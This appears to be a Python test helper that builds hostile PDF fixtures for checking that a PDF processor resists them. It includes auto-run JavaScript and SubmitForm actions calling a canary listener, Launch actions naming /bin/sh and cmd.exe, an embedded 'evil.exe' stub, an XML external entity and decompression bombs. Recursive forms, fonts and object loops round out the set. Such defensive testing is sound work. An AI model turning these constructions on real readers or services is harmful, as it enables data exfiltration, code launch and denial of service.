"""Hostile PDFs: small builders, one trick each. `canary` is the address of a listener that must stay silent."""

import zlib
from collections.abc import Sequence
from io import BytesIO

from PIL import Image

from tests.support.documents import make_pdf

SAID = b"BT /F1 12 Tf 72 720 Td (Ada Lovelace) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
BOX = b"/MediaBox [0 0 595 842]"


def assembled(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """Return a PDF of numbered objects, the first of which is the catalog."""
    out, offsets = bytearray(b"%PDF-1.7\n"), list[int]()
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def one_page(
    *more: bytes,
    catalog: bytes = b"",
    page: bytes = b"",
    drawing: bytes = SAID,
    resources: bytes = b"",
    box: bytes = BOX,
) -> bytes:
    """Return a PDF of one page that says a name; objects that are added begin at number 6."""
    return assembled([
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R %s /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> %s >> %s >>"
        % (box, resources, page),
        FONT,
        stream(drawing),
        *more,
    ])  # fmt: skip


def stream(content: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    """Return a stream object, whose length may lie."""
    said = len(content) if length is None else length
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (said, entries, content)


def active(canary: str) -> bytes:
    """Return a page with every kind of action and an attachment."""
    url = canary.encode()
    return one_page(
        b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); this.submitForm\\('%s'\\)) >>" % (url, url),
        b"<< /S /URI /URI (%s) >>" % url,
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        b"<< /S /GoToR /F << /FS /URL /F (%s) >> /D [0 /Fit] >>" % url,
        b"<< /Type /Filespec /F (evil.exe) /EF << /F 11 0 R >> >>",
        stream(b"MZ" + bytes(100), b"/Type /EmbeddedFile"),
        b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % url,
        catalog=(
            b"/OpenAction 6 0 R /AA << /WC 7 0 R /WS 8 0 R /DS 9 0 R /WP 12 0 R >>"
            b"/Names << /JavaScript << /Names [(go) 6 0 R] >> /EmbeddedFiles << /Names [(evil) 10 0 R] >> >>"
        ),
        page=b"/AA << /O 6 0 R /C 7 0 R >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 7 0 R >>]",
    )


def external_stream(canary: str) -> bytes:
    """Return a page whose drawing, and a form, are to be fetched from elsewhere."""
    where = b"<< /FS /URL /F (%s) >>" % canary.encode()
    return one_page(
        stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F %s /Page 0 >>" % where),
        stream(b"", b"/F %s" % where),
        drawing=SAID + b" /X Do",
        resources=b"/XObject << /X 6 0 R >>",
    )


def xfa(canary: str) -> bytes:
    """Return a form in XML with an external entity."""
    form = b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
    return one_page(stream(form % canary.encode()), catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>")


def pages(count: int) -> bytes:
    """Return a PDF that has that many pages, small."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    page = b"<< /Type /Page /Parent 2 0 R %s >>" % BOX
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            *[page] * count,
        ]
    )


def lying_count(count: int) -> bytes:
    """Return a PDF of one page that claims another number."""
    return one_page().replace(b"/Count 1 ", b"/Count %d " % count)


def deep_tree(depth: int) -> bytes:
    """Return a PDF whose one page lies under a tower of nodes."""
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(2, 2 + depth)]
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, b"<< /Type /Page %s >>" % BOX])


def looping_tree() -> bytes:
    """Return a PDF whose tree of pages is its own child."""
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"])


def nested(opening: bytes, closing: bytes, depth: int) -> bytes:
    """Return a page with a value nested in itself many times."""
    return one_page(page=b"/Deep " + opening * depth + b"0 " + closing * depth)


def recursive_form() -> bytes:
    """Return a page that draws a form that draws itself, twice."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>"
    return one_page(stream(b"/X Do /X Do", form), drawing=SAID + b" /X Do", resources=b"/XObject << /X 6 0 R >>")


def laughing_forms(levels: int = 12, each: int = 10) -> bytes:
    """Return a page whose forms each draw the next ten times: billions of laughs, drawn."""
    forms = [
        stream(
            b"/X Do " * each,
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
            % (number + 1),
        )
        for number in range(6, 6 + levels)
    ]
    last = stream(b"0 0 500 500 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")
    return one_page(*forms, last, drawing=SAID + b" /X Do", resources=b"/XObject << /X 6 0 R >>")


def recursive_pattern() -> bytes:
    """Return a page filled with a pattern that is filled with itself."""
    pattern = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001"
        b" /Resources << /Pattern << /P 6 0 R >> >>"
    )
    drawing = SAID + b" /Pattern cs /P scn 0 0 595 842 re f"
    return one_page(
        stream(b"/Pattern cs /P scn 0 0 1 1 re f", pattern), drawing=drawing, resources=b"/Pattern << /P 6 0 R >>"
    )


def huge_page(size: int, unit: int = 1) -> bytes:
    """Return a page of a size that no printer has."""
    return one_page(box=b"/MediaBox [0 0 %d %d] /UserUnit %d" % (size, size, unit))


def strip() -> bytes:
    """Return a page that is a very long strip."""
    return one_page(box=b"/MediaBox [0 0 1 14400]")


def flate_bomb(megabytes: int = 1024) -> bytes:
    """Return a page whose drawing unpacks to a thousand times its size."""
    return one_page().replace(stream(SAID), stream(_zeros(megabytes), b"/Filter /FlateDecode"))


def _zeros(megabytes: int) -> bytes:
    """Return very many zeros, packed: a megabyte that ends on a whole byte, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = ((megabytes << 20) % 65521) << 16 | 1
    return b"\x78\xda" + one * megabytes + b"\x03\x00" + checksum.to_bytes(4)


def nested_flate_bomb(times: int = 3) -> bytes:
    """Return a page whose drawing is packed several times over."""
    packed = zlib.compress(b"0 0 m\n" * (100 << 20 >> 3), 9)
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return one_page().replace(stream(SAID), stream(packed, b"/Filter [%s]" % (b"/FlateDecode " * times)))


def run_length_bomb(steps: int = 14) -> bytes:
    """Return a page whose drawing is run-length packed many times over, where each pass doubles."""
    return one_page().replace(
        stream(SAID), stream(b"\x81\x00" * 200_000 + b"\x80", b"/Filter [%s]" % (b"/RunLengthDecode " * steps))
    )


def picture_bomb(side: int = 32_000) -> bytes:
    """Return a page with a picture of a billion pixels that is a few kilobytes."""
    return picture(b"/Filter /FlateDecode", _zeros(side * side >> 20), side)


def picture(filters: bytes, content: bytes, side: int, *more: bytes) -> bytes:
    """Return a page with one grey picture of `side` by `side` in a format."""
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
    return one_page(
        stream(content, entries % (side, side) + filters), *more,
        drawing=SAID + b" q 500 0 0 500 0 0 cm /I Do Q",
        resources=b"/XObject << /I 6 0 R >>",
    )  # fmt: skip


def jbig2(kind: int, body: bytes, length: int | None = None, side: int = 32_768) -> bytes:
    """Return a page with a JBIG2 picture of one page segment and one segment of a kind, whose length may lie."""
    page = b"\x00\x00\x00\x00\x30\x00\x01" + (19).to_bytes(4) + side.to_bytes(4) * 2 + bytes(8) + b"\x00\x00\x00"
    said = len(body) if length is None else length
    segment = b"\x00\x00\x00\x01" + bytes((kind,)) + b"\x00\x01" + said.to_bytes(4) + body
    return picture(b"/Filter /JBIG2Decode", page + segment, side).replace(
        b"/BitsPerComponent 8", b"/BitsPerComponent 1"
    )


def jbig2_region(side: int = 32_768) -> bytes:
    """Return a generic region of a billion pixels without content."""
    where = side.to_bytes(4) * 2 + bytes(8) + b"\x00"
    return jbig2(38, where + b"\x00" + bytes((3, 255, 253, 255, 2, 254, 254, 254)) + b"\x00\x00")


def jbig2_symbols(count: int = 0xFFFFFFFF) -> bytes:
    """Return a dictionary of billions of symbols that are not there."""
    return jbig2(0, b"\x00\x00" + bytes((3, 255, 253, 255, 2, 254, 254, 254)) + count.to_bytes(4) * 2)


def type3_recursion() -> bytes:
    """Return a font whose letter is drawn with the font itself."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0]"
        b" /CharProcs << /a 7 0 R >> /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97"
        b" /Widths [1000] /Resources << /Font << /F3 6 0 R >> >> >>"
    )
    letter = stream(b"1000 0 d0 BT /F3 1000 Tf (aa) Tj ET")
    drawing = SAID + b" BT /F3 40 Tf 100 100 Td (aaaa) Tj ET"
    page = one_page(font, letter, drawing=drawing)
    return page.replace(b"/F1 4 0 R", b"/F1 4 0 R /F3 6 0 R")


def broken_font(key: bytes, program: bytes) -> bytes:
    """Return a page in a font whose program is broken."""
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1 1] /%s 7 0 R >>" % key
    fonts = b"<< /Type /Font /Subtype /%s /BaseFont /X /FirstChar 0 /LastChar 0 /Widths [1] /FontDescriptor 6 0 R >>"
    kind = {b"FontFile": b"Type1", b"FontFile2": b"TrueType", b"FontFile3": b"Type1"}[key]
    entries = b"/Subtype /Type1C" if key == b"FontFile3" else b"/Length1 %d /Length2 99999999 /Length3 0" % len(program)
    return one_page(descriptor, stream(program, entries)).replace(FONT, fonts % kind)


def true_type(glyph: bytes) -> bytes:
    """Return a TrueType program whose tables claim more than there is."""
    names = (b"cmap", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp")
    table = b"".join(name + bytes(4) + (12 + 16 * len(names)).to_bytes(4) + b"\xff\xff\xff\xff" for name in names)
    return b"\x00\x01\x00\x00" + len(names).to_bytes(2) + bytes(6) + table + glyph


def xref_loop() -> bytes:
    """Return a PDF whose table of objects names itself as the one before."""
    made = one_page()
    start = made.rindex(b"xref\n0 ")
    return made.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d /XRefStm %d " % (start, start))


def object_stream_loop() -> bytes:
    """Return a PDF whose objects lie in streams that lie in each other."""
    streams = [
        stream(b"%d 0 << /Type /ObjStm >>" % other, b"/Type /ObjStm /N 1 /First 4 /Extends %d 0 R" % other)
        for other in (7, 6)
    ]
    return one_page(*streams, catalog=b"/Names 6 0 R /Dests 7 0 R")


def circular_length() -> bytes:
    """Return a PDF in which the length of a stream is that stream."""
    return one_page().replace(b"<< /Length %d" % len(SAID), b"<< /Length 5 0 R")


def hidden_text() -> bytes:
    """Return a page that says a name with marks that turn the reading around, and controls, among the letters."""
    said = "\ufeffAda\u202e\u2066 Lovelace\u200b\x07".encode("utf-16-be").hex().encode()
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap /CMapName /X def 1 begincodespacerange <00> <FF>"
        b" endcodespacerange 1 beginbfchar <41> <%s> endbfchar endcmap end" % said
    )
    font = FONT.replace(b"/Helvetica", b"/Helvetica /ToUnicode 6 0 R")
    return one_page(stream(cmap), drawing=b"BT /F1 12 Tf 72 720 Td (A) Tj ET").replace(FONT, font)


def polyglot(before_end: bytes) -> bytes:
    """Return a PDF with something else behind its end."""
    return make_pdf() + before_end


def scanned() -> bytes:
    """Return what a scanner at 600 dots per inch makes: harmless, and large when unpacked."""
    out = BytesIO()
    Image.new("RGB", (4960, 7016), (250, 250, 245)).save(out, "PDF", resolution=600)
    return out.getvalue()


def truncations(parts: int = 16) -> list[bytes]:
    """Return a PDF cut off at many points."""
    whole = make_pdf()
    return [whole[: len(whole) * part // parts] for part in range(1, parts)]
